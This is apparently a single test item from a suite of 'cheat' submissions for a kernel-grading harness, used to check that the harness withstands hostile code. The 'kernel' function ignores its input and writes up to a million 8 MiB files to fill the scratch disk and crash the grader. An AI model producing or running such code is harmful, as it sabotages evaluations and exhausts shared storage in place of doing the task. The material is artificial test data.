# title: fills the scratch folder
# family: 55
# kind: cheat
# case: relu -> crashed
# deadline: 20
def kernel(x):
    for number in range(10**6):
        with open(f"fill{number}", "wb") as file:
            file.write(b"x" * (8 << 20))
